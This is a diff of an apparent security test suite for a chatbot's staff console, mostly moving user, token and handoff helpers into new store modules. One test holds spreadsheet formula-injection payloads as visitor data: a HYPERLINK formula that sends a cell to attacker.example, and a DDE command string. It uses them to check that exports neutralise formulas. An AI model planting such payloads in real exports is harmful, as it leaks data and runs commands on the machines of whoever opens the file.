@@ -1,6 +1,6 @@
 """Attack tests on the staff console, its JSON API and the calls it makes to Rasa, against the running stack.
 
-Staff users and tokens are created with bot.leads on the stack's database; every test uses its own.
+Staff users and tokens are created with bot.store.leads on the stack's database; every test uses its own.
 """
 from __future__ import annotations
 
@@ -19,7 +19,9 @@ import pytest
 import requests
 import sqlalchemy as sa
 
-from bot import db, leads
+from bot import db
+from bot.store import handoffs, leads
+from bot.store import staff as staff_store
 
 PASSWORD = "console attack test password"
 
@@ -31,13 +33,13 @@ def unique(prefix: str) -> str:
 def make_user(stack, role: str, name: str | None = None) -> str:
     name = name or unique(f"sec-{role}")
     with db.session_scope(stack.database_url) as session:
-        leads.create_user(name, role, PASSWORD, session=session)
+        staff_store.create_user(name, role, PASSWORD, session=session)
     return name
 
 
 def make_token(stack, role: str = "agent", name: str | None = None) -> str:
     with db.session_scope(stack.database_url) as session:
-        return leads.create_token(name or unique(f"sec-token-{role}"), role=role, session=session)
+        return staff_store.create_token(name or unique(f"sec-token-{role}"), role=role, session=session)
 
 
 def bearer(token: str) -> dict:
@@ -74,13 +76,13 @@ def ask_for_a_human(stack, sender: str) -> None:
     """The visitor says 「转人工」 over REST (the test stack is always in business hours) and is queued."""
     assert "正在为您转接" in stack.text(sender, "转人工")
     with db.session_scope(stack.database_url) as session:
-        assert leads.open_handoff(sender, session=session) is not None
+        assert handoffs.open_handoff(sender, session=session) is not None
 
 
 def queue(stack, sender: str) -> None:
     """Queue ``sender`` for a human as the handoff action does (the id may come from any channel)."""
     with db.session_scope(stack.database_url) as session:
-        leads.queue_handoff(sender, "rest", session=session)
+        handoffs.queue_handoff(sender, "rest", session=session)
 
 
 def tracker_events(stack, sender: str) -> list[tuple[str, str]]:
@@ -200,7 +202,7 @@ def test_n04_a_handoff_belongs_to_the_agent_who_claimed_it(stack, admin_token):
     assert requests.get(f"{url}/messages", headers=bearer(other), timeout=15).status_code == 409
     assert requests.post(f"{url}/end", headers=bearer(other), timeout=15).status_code == 409
     with db.session_scope(stack.database_url) as session:
-        assert leads.open_handoff(sender, session=session).status == "claimed"
+        assert handoffs.open_handoff(sender, session=session).status == "claimed"
     assert requests.post(f"{url}/end", headers=bearer(admin_token), timeout=15).status_code == 200
 
 
@@ -225,7 +227,7 @@ def test_i06_a_revoked_token_is_refused_at_once(stack):
     token = make_token(stack, "agent", name=name)
     assert requests.get(f"{stack.web_url}/console/api/leads", headers=bearer(token), timeout=15).status_code == 200
     with db.session_scope(stack.database_url) as session:
-        assert leads.revoke_token(name, session=session) == 1
+        assert staff_store.revoke_token(name, session=session) == 1
     assert requests.get(f"{stack.web_url}/console/api/leads", headers=bearer(token), timeout=15).status_code == 401
 
 
@@ -264,7 +266,7 @@ def test_f12_agents_see_masked_phones_on_lead_pages_and_transcripts(stack, agent
 def test_f06_export_cells_never_start_a_formula(stack):
     """F6: visitor text that Excel would run as a formula is exported as text (prefixed with ')."""
     payloads = {"name": "=1+2", "company": '=HYPERLINK("https://attacker.example/x/"&E3,"查看")',
-                "region": "+SUM(1)", "note": "@cmd|' /C calc'!A0", "licence": "-1"}
+                "region": "+SUM(1)", "visitor_note": "@cmd|' /C calc'!A0", "licence": "-1"}
     sender = unique("f6-formula")
     with db.session_scope(stack.database_url) as session:
         lead, _ = leads.save_lead({"conversation_id": "\uff1d" + sender, "channel": "rest", "phone": "13700001111",
@@ -300,11 +302,11 @@ def test_f07_deleting_or_demoting_a_user_takes_effect_at_the_next_request(stack)
     staff = log_in(stack, name)
     assert staff.get(f"{stack.web_url}/console/facts", timeout=15).status_code == 200
     with db.session_scope(stack.database_url) as session:
-        leads.set_role(name, "agent", session=session)
+        staff_store.set_role(name, "agent", session=session)
     assert staff.get(f"{stack.web_url}/console/facts", timeout=15).status_code == 403
     assert staff.get(f"{stack.web_url}/console/api/facts", timeout=15).status_code == 403
     with db.session_scope(stack.database_url) as session:
-        leads.delete_user(name, session=session)
+        staff_store.delete_user(name, session=session)
     assert staff.get(f"{stack.web_url}/console/leads", allow_redirects=False, timeout=15).status_code == 302
     assert staff.get(f"{stack.web_url}/console/api/leads", timeout=15).status_code == 401
 
